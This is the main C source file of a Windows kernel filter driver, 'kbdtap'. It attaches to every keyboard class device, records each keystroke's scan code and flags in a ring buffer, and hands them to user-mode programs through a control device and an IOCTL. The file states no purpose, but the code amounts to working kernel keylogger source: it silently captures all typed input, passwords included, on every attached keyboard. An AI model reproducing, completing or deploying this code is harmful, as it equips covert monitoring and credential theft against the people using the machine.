/*
 * main.c - DriverEntry, unload and dispatch routines for kbdtap
 */
#include "kbdtap.h"

KT_GLOBALS g_Kt;

DRIVER_INITIALIZE DriverEntry;
DRIVER_UNLOAD     KtUnload;
DRIVER_DISPATCH   KtDispatchCreateClose;

static NTSTATUS
KtPassDown(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    PKT_FILTER_EXT ext = (PKT_FILTER_EXT)DeviceObject->DeviceExtension;

    IoSkipCurrentIrpStackLocation(Irp);
    return IoCallDriver(ext->Lower, Irp);
}

static NTSTATUS
KtComplete(PIRP Irp, NTSTATUS Status, ULONG_PTR Information)
{
    Irp->IoStatus.Status = Status;
    Irp->IoStatus.Information = Information;
    IoCompleteRequest(Irp, IO_NO_INCREMENT);
    return Status;
}

static BOOLEAN
KtIsControl(PDEVICE_OBJECT DeviceObject)
{
    return ((PKT_COMMON_EXT)DeviceObject->DeviceExtension)->Kind == KtKindControl;
}

static VOID
KtPushKey(PKEYBOARD_INPUT_DATA Data, ULONG ClassIndex)
{
    KIRQL irql;
    ULONG slot;

    KeAcquireSpinLock(&g_Kt.RingLock, &irql);
    slot = (g_Kt.RingHead + g_Kt.RingCount) % KT_RING_SIZE;
    g_Kt.Ring[slot].MakeCode = Data->MakeCode;
    g_Kt.Ring[slot].Flags = Data->Flags;
    g_Kt.Ring[slot].ClassIndex = ClassIndex;
    if (g_Kt.RingCount < KT_RING_SIZE) {
        g_Kt.RingCount++;
    } else {
        g_Kt.RingHead = (g_Kt.RingHead + 1) % KT_RING_SIZE;
    }
    KeReleaseSpinLock(&g_Kt.RingLock, irql);
}

NTSTATUS
KtReadComplete(PDEVICE_OBJECT DeviceObject, PIRP Irp, PVOID Context)
{
    PKT_FILTER_EXT ext = (PKT_FILTER_EXT)Context;

    UNREFERENCED_PARAMETER(DeviceObject);

    if (NT_SUCCESS(Irp->IoStatus.Status)) {
        PKEYBOARD_INPUT_DATA keys = (PKEYBOARD_INPUT_DATA)Irp->AssociatedIrp.SystemBuffer;
        ULONG n = (ULONG)(Irp->IoStatus.Information / sizeof(KEYBOARD_INPUT_DATA));
        ULONG i;

        for (i = 0; i < n; i++) {
            KtPushKey(&keys[i], ext->ClassIndex);
        }
    }

    if (Irp->PendingReturned) {
        IoMarkIrpPending(Irp);
    }
    InterlockedDecrement(&g_Kt.PendingReads);
    return STATUS_CONTINUE_COMPLETION;
}

NTSTATUS
KtDispatchRead(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    PKT_FILTER_EXT ext;

    if (KtIsControl(DeviceObject)) {
        return KtComplete(Irp, STATUS_INVALID_DEVICE_REQUEST, 0);
    }

    ext = (PKT_FILTER_EXT)DeviceObject->DeviceExtension;
    IoCopyCurrentIrpStackLocationToNext(Irp);
    IoSetCompletionRoutine(Irp, KtReadComplete, ext, TRUE, TRUE, TRUE);
    InterlockedIncrement(&g_Kt.PendingReads);
    return IoCallDriver(ext->Lower, Irp);
}

NTSTATUS
KtDispatchCreateClose(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    if (KtIsControl(DeviceObject)) {
        return KtComplete(Irp, STATUS_SUCCESS, 0);
    }
    return KtPassDown(DeviceObject, Irp);
}

NTSTATUS
KtDispatchPower(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    PKT_FILTER_EXT ext = (PKT_FILTER_EXT)DeviceObject->DeviceExtension;

    if (KtIsControl(DeviceObject)) {
        PoStartNextPowerIrp(Irp);
        return KtComplete(Irp, STATUS_SUCCESS, 0);
    }
    PoStartNextPowerIrp(Irp);
    IoSkipCurrentIrpStackLocation(Irp);
    return PoCallDriver(ext->Lower, Irp);
}

NTSTATUS
KtDispatchPnp(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    if (KtIsControl(DeviceObject)) {
        return KtComplete(Irp, STATUS_NOT_SUPPORTED, 0);
    }
    return KtPassDown(DeviceObject, Irp);
}

NTSTATUS
KtDispatchControl(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    PIO_STACK_LOCATION sp;
    ULONG outLen;
    KIRQL irql;
    ULONG copied = 0;

    if (!KtIsControl(DeviceObject)) {
        return KtPassDown(DeviceObject, Irp);
    }

    sp = IoGetCurrentIrpStackLocation(Irp);
    outLen = sp->Parameters.DeviceIoControl.OutputBufferLength;

    switch (sp->Parameters.DeviceIoControl.IoControlCode) {
    case IOCTL_KBDTAP_READ_RING: {
        PKT_KEY_RECORD out = (PKT_KEY_RECORD)Irp->AssociatedIrp.SystemBuffer;
        ULONG room = outLen / sizeof(KT_KEY_RECORD);

        KeAcquireSpinLock(&g_Kt.RingLock, &irql);
        while (copied < room && g_Kt.RingCount > 0) {
            out[copied++] = g_Kt.Ring[g_Kt.RingHead];
            g_Kt.RingHead = (g_Kt.RingHead + 1) % KT_RING_SIZE;
            g_Kt.RingCount--;
        }
        KeReleaseSpinLock(&g_Kt.RingLock, irql);
        return KtComplete(Irp, STATUS_SUCCESS, copied * sizeof(KT_KEY_RECORD));
    }
    case IOCTL_KBDTAP_CLEAR_RING:
        KeAcquireSpinLock(&g_Kt.RingLock, &irql);
        g_Kt.RingHead = 0;
        g_Kt.RingCount = 0;
        KeReleaseSpinLock(&g_Kt.RingLock, irql);
        return KtComplete(Irp, STATUS_SUCCESS, 0);
    default:
        return KtComplete(Irp, STATUS_INVALID_DEVICE_REQUEST, 0);
    }
}

VOID
KtUnload(PDRIVER_OBJECT DriverObject)
{
    UNICODE_STRING link = RTL_CONSTANT_STRING(KT_CONTROL_LINK);

    UNREFERENCED_PARAMETER(DriverObject);

    KtDetachAll();

    if (g_Kt.LinkCreated) {
        IoDeleteSymbolicLink(&link);
    }
    if (g_Kt.ControlDevice != NULL) {
        IoDeleteDevice(g_Kt.ControlDevice);
    }
    LOG0("unloaded");
}

static NTSTATUS
KtCreateControl(PDRIVER_OBJECT DriverObject)
{
    UNICODE_STRING name = RTL_CONSTANT_STRING(KT_CONTROL_NAME);
    UNICODE_STRING link = RTL_CONSTANT_STRING(KT_CONTROL_LINK);
    PDEVICE_OBJECT dev;
    NTSTATUS status;

    status = IoCreateDevice(DriverObject, sizeof(KT_CONTROL_EXT), &name,
                            FILE_DEVICE_UNKNOWN, FILE_DEVICE_SECURE_OPEN,
                            FALSE, &dev);
    if (!NT_SUCCESS(status)) {
        return status;
    }
    ((PKT_CONTROL_EXT)dev->DeviceExtension)->Common.Kind = KtKindControl;
    dev->Flags |= DO_BUFFERED_IO;

    status = IoCreateSymbolicLink(&link, &name);
    if (!NT_SUCCESS(status)) {
        IoDeleteDevice(dev);
        return status;
    }

    g_Kt.ControlDevice = dev;
    g_Kt.LinkCreated = TRUE;
    dev->Flags &= ~DO_DEVICE_INITIALIZING;
    return STATUS_SUCCESS;
}

NTSTATUS
DriverEntry(PDRIVER_OBJECT DriverObject, PUNICODE_STRING RegistryPath)
{
    NTSTATUS status;
    ULONG i;

    UNREFERENCED_PARAMETER(RegistryPath);

    RtlZeroMemory(&g_Kt, sizeof(g_Kt));
    KeInitializeSpinLock(&g_Kt.RingLock);

    DriverObject->MajorFunction[IRP_MJ_CREATE]         = KtDispatchCreateClose;
    DriverObject->MajorFunction[IRP_MJ_CLOSE]          = KtDispatchCreateClose;
    DriverObject->MajorFunction[IRP_MJ_READ]           = KtDispatchRead;
    DriverObject->MajorFunction[IRP_MJ_DEVICE_CONTROL] = KtDispatchControl;
    DriverObject->MajorFunction[IRP_MJ_POWER]          = KtDispatchPower;
    DriverObject->MajorFunction[IRP_MJ_PNP]            = KtDispatchPnp;
    DriverObject->DriverUnload = KtUnload;

    status = KtCreateControl(DriverObject);
    if (!NT_SUCCESS(status)) {
        LOG("control device failed 0x%08X", status);
        return status;
    }

    /*
     * Attach to every keyboard class device we can find. The first one
     * must be there; the others are a bonus (laptop + USB keyboard).
     */
    for (i = 0; i < KT_MAX_KEYBOARDS; i++) {
        PDEVICE_OBJECT filter;

        status = KtAttachToClass(DriverObject, i, &filter);
        if (!NT_SUCCESS(status)) {
            if (i == 0) {
                LOG("no keyboard class device, giving up (0x%08X)", status);
                return status;
            }
            LOG("stopping at KeyboardClass%lu (0x%08X)", i, status);
            break;
        }
        g_Kt.Filters[g_Kt.FilterCount++] = filter;
    }

    LOG("tapping %lu keyboard(s)", g_Kt.FilterCount);
    return STATUS_SUCCESS;
}
